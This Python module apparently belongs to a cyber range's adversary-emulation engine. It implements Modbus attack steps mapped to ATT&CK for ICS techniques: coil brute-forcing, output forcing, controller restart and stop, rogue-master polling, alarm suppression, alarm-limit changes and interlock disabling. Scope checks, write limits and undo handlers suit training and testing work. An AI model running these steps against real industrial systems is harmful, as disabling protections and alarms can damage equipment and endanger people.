"""Modbus, beyond reading and overwriting: forcing outputs, restarting, a second master, alarms, interlocks, tasks."""

from __future__ import annotations

import asyncio
import contextlib
import json
import time
from collections.abc import Mapping
from typing import Any

from cyber_range.engine.attack.intruder import Intruder
from cyber_range.engine.attack.registry import step
from cyber_range.engine.attack.steps.modbus import PORT, dialogue, write
from cyber_range.engine.attack.ways import Blocked, Evidence

MOST_WRITES = 5000  # of one step: bounded, whatever a scenario says
KEPT_SAMPLES = 2000


@step("brute_force_io", "T0806", "T0831", needs=("session",))
async def brute_force_io(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Toggles every coil from `first` to `last`, `times` over (20), `pause` s between writes (0.01). `undo` puts them back."""
    host = intruder.fence.check(str(args["host"]))
    first, last = int(args["first"]), int(args["last"])
    if not 0 <= first <= last <= first + 400:
        raise ValueError(f"coils {first}..{last}: give a first and a last that are at most 400 apart")
    times, pause = int(args.get("times", 20)), max(0.002, float(args.get("pause", 0.01)))
    began, writes, refused = time.monotonic(), 0, 0
    async with dialogue(intruder, host, evidence) as device:
        before = await device.read("coil", first, last - first + 1)
        if before is None:
            raise Blocked(f"{host} does not show these coils")
        for number in range(times):
            for offset, was in enumerate(before):
                if writes >= MOST_WRITES:
                    break
                wanted = int(not was) if number % 2 == 0 else was
                refused += not await device.write("coil", first + offset, wanted)
                writes += 1
                await asyncio.sleep(pause)
    spent = max(time.monotonic() - began, 0.001)
    evidence.facts |= {
        "target": host, "first": first, "last": last, "writes": writes, "refused": refused, "per_second": round(writes / spent, 1),
    }  # fmt: skip
    if refused == writes:
        raise Blocked(f"{host} refused every write")

    async def put_back(told: Evidence) -> dict[str, Any]:
        async with dialogue(intruder, host, told) as device:
            for offset, was in enumerate(before):
                await device.write("coil", first + offset, was)
        return {"target": host, "first": first, "values": before}

    intruder.undo_with((host, PORT, "coils", first), put_back)


@step("force_io", "T0835", "T0831", "T0879", needs=("session",))
async def force_io(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Writes a point again and again, faster than the logic sets it: `table`, `address`, `value`, `every` s (0.1),
    `seconds` (30). Goes on after the step ended."""
    host, table = intruder.fence.check(str(args["host"])), str(args.get("table", "coil"))
    address, value = int(args["address"]), int(args["value"])
    every, seconds = max(0.02, float(args.get("every", 0.1))), min(1800.0, float(args.get("seconds", 30)))
    await write(intruder, {**args, "table": table}, evidence)

    async def keep_forcing() -> None:
        until, own, count = time.monotonic() + seconds, Evidence(), 0
        with contextlib.suppress(Blocked):
            async with dialogue(intruder, host, own) as device:
                while time.monotonic() < until:
                    await device.write(table, address, value)
                    count += 1
                    await asyncio.sleep(every)
        intruder.tell("force_io_ended", {"target": host, "writes": count, **own.as_dict()})

    intruder.go_on(f"force {host} {table} {address}", keep_forcing())


@step("modbus_restart", "T0816", "T0814", needs=("session",))
async def modbus_restart(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Restart communications (function 8, sub-function 1): the controller restarts, its outputs are safe meanwhile."""
    host = intruder.fence.check(str(args["host"]))
    evidence.facts["target"] = host
    async with dialogue(intruder, host, evidence) as device:
        body = await device.ask("restart", 1, 0)
    if body[0] & 0x80:
        raise Blocked(f"{host} refused to restart (exception {body[1]})")


@step("rogue_master", "T0848", "T0801", "T0802", needs=("session",), gains=("points",))
async def rogue_master(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Polls `blocks` [{table, address, count}] every `every` s (1) for `seconds` (120) as a master does. Goes on by itself;
    the samples become the loot "samples"."""
    host = intruder.fence.check(str(args["host"]))
    blocks = [(str(b.get("table", "holding")), int(b["address"]), int(b.get("count", 1))) for b in args["blocks"]]
    every, seconds = max(0.05, float(args.get("every", 1))), min(3600.0, float(args.get("seconds", 120)))
    samples: list[Any] = []

    async def once(told: Evidence) -> None:
        async with dialogue(intruder, host, told) as device:
            while True:
                values = [await device.read(*block) for block in blocks]
                if len(samples) < KEPT_SAMPLES:
                    samples.append([round(time.time(), 2), values])
                intruder.loot["samples"] = json.dumps(samples).encode()
                if told is evidence or time.monotonic() >= until:
                    return
                await asyncio.sleep(every)

    until = 0.0
    await once(evidence)
    until = time.monotonic() + seconds
    evidence.facts |= {"target": host, "blocks": [list(block) for block in blocks], "values": samples[0][1]}

    async def keep_polling() -> None:
        own = Evidence()
        with contextlib.suppress(Blocked):
            await once(own)
        intruder.tell("rogue_master_ended", {"target": host, "polls": len(samples), **own.as_dict()})

    intruder.go_on(f"rogue_master {host}", keep_polling())


@step("alarm_limit", "T0838", needs=("session",))
async def alarm_limit(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Moves an alarm's limit out of reach (a holding register: `address`, `value`). Leaves the old one for `undo`."""
    await write(intruder, {"table": "holding", **args}, evidence)


@step("suppress_alarm", "T0878", needs=("session",))
async def suppress_alarm(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Switches an alarm off (a coil: `address`, `value` 1). Leaves the old state for `undo`."""
    await write(intruder, {"table": "coil", "value": 1, **args}, evidence)


@step("interlock_off", "T0837", "T0880", needs=("session",))
async def interlock_off(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Switches a protection off (a coil: `address`, `value` 0). Leaves the old state for `undo`."""
    await write(intruder, {"table": "coil", "value": 0, **args}, evidence)


@step("scan_task", "T0821", needs=("session",))
async def scan_task(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Slows the controller's task down (its period in ms is a holding register: `address`, `value`)."""
    await write(intruder, {"table": "holding", **args}, evidence)


@step("modbus_mode", "T0858", "T0881", "T0813", needs=("session",))
async def modbus_mode(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Stops (`value` 0) or starts (1) a controller whose operating mode is a coil (`address`)."""
    await write(intruder, {"table": "coil", "value": 0, **args}, evidence)
